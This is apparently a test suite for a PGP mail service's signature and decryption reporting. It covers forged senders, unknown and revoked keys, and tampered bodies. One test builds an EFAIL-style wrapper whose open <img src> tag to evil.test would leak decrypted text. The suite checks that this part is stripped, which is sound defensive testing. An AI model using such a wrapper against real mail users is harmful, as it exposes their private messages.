import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { after, before, it } from 'node:test'
import { currentCertificate, unlockedSecrets } from '#src/domain/keys/keys.ts'
import { findSession } from '#src/domain/sessions/sessions.ts'
import { signedMessage } from '#src/lib/mime/pgp-mime.ts'
import { type House, onEveryEngine, startHouse } from '#src/testing.ts'
import { bodyOf, KEY_PASSWORD, mailOf, messageIn, origin, type Person, person } from './people.ts'

onEveryEngine('what is said of the signatures of a mail', (engine) => {
  let house: House
  let ada: Person
  let ben: Person
  before(async () => {
    house = await startHouse({ engine })
    ada = await person(house, 'ada')
    ben = await person(house, 'ben')
  })
  after(() => house.stop())

  const now = () => house.clock.now()
  const secretOf = async ({ sessid }: Person): Promise<Uint8Array> => {
    const signed = await findSession(house.ctx, sessid, 'mailbox')
    return (await unlockedSecrets(house.ctx, { signed, proof: { password: KEY_PASSWORD }, origin })).current!
  }
  const certificateOf = async ({ email }: Person) => (await currentCertificate(house.ctx, email))!.certificate
  const strangersSecret = async (email: string): Promise<Uint8Array> => {
    const userIds = [{ name: '', email }]
    const made = await house.ctx.workers.openpgp.generate({
      userIds,
      algorithm: 'curve25519',
      validSeconds: 0,
      now: now(),
    })
    return made.secret
  }
  const seal = async (mail: Uint8Array, signWith: Uint8Array | undefined, reader: Person) => {
    const recipients = [await certificateOf(reader)]
    const chance = randomBytes(18)
    return house.ctx.workers.openpgp.sealMail({ message: mail, recipients, hidden: [], signWith, now: now(), chance })
  }
  const sign = (mail: Uint8Array, signWith: Uint8Array): Promise<Uint8Array> =>
    signedMessage(mail, (data) => house.ctx.workers.openpgp.signDetached({ data, signWith, now: now() }), randomBytes)

  const facts = ({ json }: { json: { signatures: Record<string, unknown>[] } }) =>
    json.signatures.map(({ status, signer, matchesSender }) => [status, signer, matchesSender])

  it('a good one by somebody who is not the sender, or not the only one', async () => {
    const mail = mailOf({ From: ada.email, To: `${ben.email}, ${ada.email}` }, 'pay me')
    const sealed = await ada.encrypt(mail, 'sign=true&protect=false')
    const from = (authors: string) => ben.decrypt(sealed.text.replace(/^From: .*$/m, `From: ${authors}`))
    const forged = await from(ben.email)
    assert.deepEqual(facts(forged), [['valid', ada.email, false]])
    const words = `its key belongs to ${ada.email}, who is not the sender`
    assert.ok(forged.json.signatures[0].explanation.includes(words))
    assert.equal(forged.json.verification.result, 'other')
    assert.deepEqual(facts(await from(`${ada.email}, ${ben.email}`)), [['valid', ada.email, false]])
    assert.deepEqual(facts(await from(`"${ada.email}" <x@elsewhere.test>`)), [['valid', ada.email, false]])
  })

  it('one by a key that nobody here knows, whatever it says of itself', async () => {
    const mail = mailOf({ From: ada.email, To: ben.email }, 'hi')
    const opened = await ben.decrypt(await seal(mail, await strangersSecret(ada.email), ben))
    assert.deepEqual(facts(opened), [['unknown-key', null, false]])
    assert.equal(opened.json.signatures[0].fingerprint, null)
    assert.equal(opened.json.verification.result, 'unknown')
  })

  it('one of a mail that is merely signed: good, changed, spoiled; no key is needed to read it', async () => {
    const cyd = await person(house, 'cyd', { hasKey: false })
    const header = { From: ada.email, To: cyd.email, 'Content-Type': 'text/plain; charset=utf-8' }
    const signed = Buffer.from(await sign(mailOf(header, 'Zahl 10 €\r\n'), await secretOf(ada))).toString()
    const opened = await cyd.decrypt(signed, {})
    assert.deepEqual([opened.json.encrypted, opened.json.format, opened.json.hasMore], [false, 'signed', false])
    assert.deepEqual(facts(opened), [['valid', ada.email, true]])
    assert.equal(bodyOf(messageIn(opened)).toString(), 'Zahl 10 =E2=82=AC\r\n')
    assert.deepEqual(facts(await cyd.decrypt(signed.replaceAll('\r\n', '\n'), {})), [['valid', ada.email, true]])
    assert.deepEqual(facts(await cyd.decrypt(signed.replace('10 =E2', '99 =E2'), {})), [['invalid', ada.email, false]])
    const spoiled = await cyd.decrypt(signed.replace(/(BEGIN PGP SIGNATURE-----\r\n\r\n)[^-]+/, '$1junk\r\n'), {})
    assert.deepEqual(facts(spoiled), [['invalid', null, false]])
  })

  it('one inside the encryption, as a part of its own', async () => {
    const inner = await sign(mailOf({ From: ada.email, To: ben.email }, 'twice wrapped\r\n'), await secretOf(ada))
    const opened = await ben.decrypt(await seal(inner, undefined, ben))
    assert.deepEqual(facts(opened), [['valid', ada.email, true]])
    assert.equal(bodyOf(messageIn(opened)).toString(), 'twice wrapped\r\n')
    assert.doesNotMatch(opened.json.message, /multipart\/signed|BEGIN PGP/)
  })

  it('one by a key that was revoked later', async () => {
    const dan = await person(house, 'dan')
    const sealed = await dan.encrypt(mailOf({ From: dan.email, To: ben.email }, 'hi'))
    const secret = await secretOf(dan)
    const { certificate } = await house.ctx.workers.openpgp.revoke({ secret, reason: 'compromised', now: now() })
    const { fingerprint } = (await currentCertificate(house.ctx, dan.email))!
    await house.ctx.db.updateTable('key_ring').set({ certificate }).where('fingerprint', '=', fingerprint).execute()
    const opened = await ben.decrypt(sealed.bytes)
    assert.deepEqual(facts(opened), [['key-revoked', dan.email, false]])
    assert.match(opened.json.signatures[0].explanation, /revoked/)
    assert.equal(opened.json.verification.result, 'bad')
    assert.match(opened.json.verification.explanation, /revoked/)
  })

  it('what stands beside the encrypted part never comes out with it', async () => {
    const sealed = (await ada.encrypt(mailOf({ From: ada.email, To: ben.email }, 'the secret\r\n'))).text
    const at = sealed.indexOf('Content-Type: multipart/encrypted')
    const leak = '--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n'
    const footer = '--x\r\nContent-Type: text/plain\r\n\r\n">-- list footer\r\n--x--\r\n'
    const wrapped = `Content-Type: multipart/mixed; boundary=x\r\n\r\n${leak}--x\r\n${sealed.slice(at)}\r\n${footer}`
    const opened = await ben.decrypt(`From: ${ada.email}\r\nTo: ${ben.email}\r\n${wrapped}`)
    assert.equal(opened.json.hasMore, true)
    assert.doesNotMatch(opened.json.message, /evil|footer/)
    assert.equal(bodyOf(messageIn(opened)).toString(), 'the secret\r\n')
    assert.deepEqual(facts(opened), [['valid', ada.email, true]])
    assert.equal(opened.json.verification.result, 'partly')
    assert.match(opened.json.verification.explanation, /Signed by .* More stood in the message .* left out/)
  })

  it('text in the mail itself: what stands around it is left out', async () => {
    const armored = await house.ctx.workers.openpgp.encrypt({
      data: Buffer.from('Grüße\n'),
      recipients: [await certificateOf(ben)],
      signWith: await secretOf(ada),
      now: now(),
    })
    const header = { From: ada.email, To: ben.email, 'Content-Type': 'text/plain; charset=us-ascii' }
    const bare = await ben.decrypt(mailOf(header, armored))
    const { format, hasMore, encrypted } = bare.json
    assert.deepEqual([format, hasMore, encrypted], ['pgp-inline', false, true])
    assert.equal(bodyOf(messageIn(bare)).toString(), 'Grüße\r\n')
    assert.match(bare.json.message, /^Content-Type: text\/plain; charset=utf-8\r$/m)
    assert.deepEqual(facts(bare), [['valid', ada.email, true]])
    const around = await ben.decrypt(mailOf(header, `Hello <a href="\n${armored}\n">footer\n`))
    assert.deepEqual([around.json.hasMore, around.json.message], [true, bare.json.message])
  })
})
